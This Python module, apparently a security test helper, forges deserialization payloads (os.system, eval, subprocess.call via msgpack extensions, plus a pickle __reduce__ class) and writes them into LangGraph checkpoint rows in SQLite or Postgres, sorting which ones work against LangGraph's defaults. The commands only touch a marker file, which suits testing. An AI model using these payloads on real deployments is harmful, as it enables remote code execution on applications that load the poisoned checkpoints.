"""An attacker who can write to the memory's database and puts commands into it."""

from __future__ import annotations

import json
import pickle
import sqlite3
from collections.abc import Callable, Mapping
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

import ormsgpack
import psycopg
from langgraph.checkpoint.serde.jsonplus import (
    EXT_CONSTRUCTOR_KW_ARGS,
    EXT_CONSTRUCTOR_POS_ARGS,
    EXT_CONSTRUCTOR_SINGLE_ARG,
    EXT_DELTA_SNAPSHOT,
    EXT_METHOD_SINGLE_ARG,
    EXT_NUMPY_ARRAY,
    EXT_PYDANTIC_V1,
    EXT_PYDANTIC_V2,
)

Place = Literal["state", "writes"]


@dataclass(frozen=True)
class Forged:
    """A value as stored in a row: the name of its encoding, and its bytes."""

    encoding: str
    value: bytes


def packed(code: int, content: object) -> Forged:
    """Return ``content`` packed as LangGraph's msgpack extension ``code``."""
    return Forged("msgpack", ormsgpack.packb(ormsgpack.Ext(code, ormsgpack.packb(content))))


def system(mark: Path) -> ormsgpack.Ext:
    """Return the basic attack, to be nested in another value."""
    content = ("os", "system", f"touch {mark}")
    return ormsgpack.Ext(EXT_CONSTRUCTOR_SINGLE_ARG, ormsgpack.packb(content))


def touch(mark: Path) -> list[str]:
    return ["touch", str(mark)]


class Reduced:
    """An object that runs a command when it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self._command = touch(mark)

    def __reduce__(self) -> tuple[Any, ...]:
        import subprocess  # noqa: PLC0415

        return (subprocess.call, (self._command,))


def as_json(content: object) -> Forged:
    return Forged("json", json.dumps(content).encode())


def prompt(mark: Path) -> dict[str, Any]:
    """Return a LangChain template: not a command, but a type that the graph never stored."""
    names = ["langchain_core", "prompts", "prompt", "PromptTemplate"]
    kwargs = {"template": str(mark), "input_variables": []}
    return {"lc": 1, "type": "constructor", "id": names, "kwargs": kwargs}


COMMANDS: Mapping[str, Callable[[Path], Forged]] = {
    "one argument": lambda mark: packed(
        EXT_CONSTRUCTOR_SINGLE_ARG, ("os", "system", f"touch {mark}")
    ),
    "eval": lambda mark: packed(
        EXT_CONSTRUCTOR_SINGLE_ARG,
        ("builtins", "eval", f"__import__('pathlib').Path({str(mark)!r}).touch()"),
    ),
    "arguments in a row": lambda mark: packed(
        EXT_CONSTRUCTOR_POS_ARGS, ("subprocess", "call", [touch(mark)])
    ),
    "named arguments": lambda mark: packed(
        EXT_CONSTRUCTOR_KW_ARGS, ("subprocess", "call", {"args": touch(mark)})
    ),
    "pydantic 1": lambda mark: packed(
        EXT_PYDANTIC_V1, ("subprocess", "call", {"args": touch(mark)})
    ),
    "pydantic 2": lambda mark: packed(
        EXT_PYDANTIC_V2,
        ("subprocess", "call", {"args": touch(mark)}, "model_validate_json"),
    ),
    "inside a set": lambda mark: packed(
        EXT_CONSTRUCTOR_SINGLE_ARG, ("builtins", "set", [system(mark)])
    ),
    "inside a snapshot": lambda mark: packed(EXT_DELTA_SNAPSHOT, {"note": system(mark)}),
    "inside an array": lambda mark: packed(EXT_NUMPY_ARRAY, (system(mark), [1], "C", b"")),
    "inside a message": lambda mark: packed(
        EXT_PYDANTIC_V2,
        (
            "langchain_core.messages.human",
            "HumanMessage",
            {"content": "hi", "additional_kwargs": {"note": system(mark)}},
            "model_validate_json",
        ),
    ),
    "inside a Send": lambda mark: packed(
        EXT_CONSTRUCTOR_POS_ARGS, ("langgraph.types", "Send", ["talk", {"note": system(mark)}])
    ),
}
"""Attacks that work against LangGraph's defaults."""

HARMLESS: Mapping[str, Callable[[Path], Forged]] = {
    "method": lambda mark: packed(
        EXT_METHOD_SINGLE_ARG, ("pathlib", "os", f"touch {mark}", "system")
    ),
    "json, LangChain's form": lambda mark: as_json(
        {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": touch(mark)}}
    ),
    "json, LangGraph's form": lambda mark: as_json(
        {"lc": 2, "type": "constructor", "id": ["subprocess", "call"], "args": [touch(mark)]}
    ),
    "json, an object": lambda mark: as_json(prompt(mark)),
    "pickle": lambda mark: Forged("pickle", pickle.dumps(Reduced(mark))),
    "no such encoding": lambda mark: Forged("msgpack; touch", str(mark).encode()),
    "not msgpack": lambda mark: Forged("msgpack", b"\xc1" + str(mark).encode()),
}
"""Attacks that fail in the pinned LangGraph already; a later version may enable them again."""


def forge_sqlite(file: Path, place: Place, forged: Forged, channel: str = "note") -> int:
    """Put a value into the newest checkpoint of every thread; return how many were changed."""
    with closing(sqlite3.connect(file)) as database, database:
        newest = database.execute(
            "SELECT thread_id, checkpoint_ns, MAX(checkpoint_id) FROM checkpoints GROUP BY 1, 2"
        ).fetchall()
        for row in newest:
            if place == "writes":
                database.execute(
                    "INSERT INTO writes (thread_id, checkpoint_ns, checkpoint_id, task_id, idx,"
                    " channel, type, value) VALUES (?, ?, ?, 'forged', 0, ?, ?, ?)",
                    (*row, channel, forged.encoding, forged.value),
                )
                continue
            where = "WHERE thread_id = ? AND checkpoint_ns = ? AND checkpoint_id = ?"
            [kept] = database.execute(f"SELECT checkpoint FROM checkpoints {where}", row).fetchone()  # noqa: S608
            encoding, value = _within(kept, channel, forged)
            database.execute(
                f"UPDATE checkpoints SET type = ?, checkpoint = ? {where}",  # noqa: S608
                (encoding, value, *row),
            )
        return len(newest)


def _within(checkpoint: bytes, channel: str, forged: Forged) -> tuple[str, bytes]:
    """Return the checkpoint with the forged value in a channel; other extensions are unchanged.

    SQLite stores the whole checkpoint as one value, so a forged value that is not msgpack
    replaces all of it.
    """
    if forged.encoding != "msgpack" or forged.value.startswith(b"\xc1"):
        return forged.encoding, forged.value
    option = ormsgpack.OPT_NON_STR_KEYS
    content = ormsgpack.unpackb(checkpoint, ext_hook=ormsgpack.Ext, option=option)
    content["channel_values"][channel] = ormsgpack.unpackb(forged.value, ext_hook=ormsgpack.Ext)
    return "msgpack", ormsgpack.packb(content, option=option)


def forge_postgres(url: str, forged: Forged, channel: str = "note") -> int:
    """Replace every stored value and every write of a channel; return how many were changed."""
    with psycopg.connect(url, autocommit=True) as database:
        values = (forged.encoding, forged.value, channel)
        changed = database.execute(
            "UPDATE checkpoint_blobs SET type = %s, blob = %s WHERE channel = %s", values
        ).rowcount
        return changed + (
            database.execute(
                "UPDATE checkpoint_writes SET type = %s, blob = %s WHERE channel = %s", values
            ).rowcount
        )
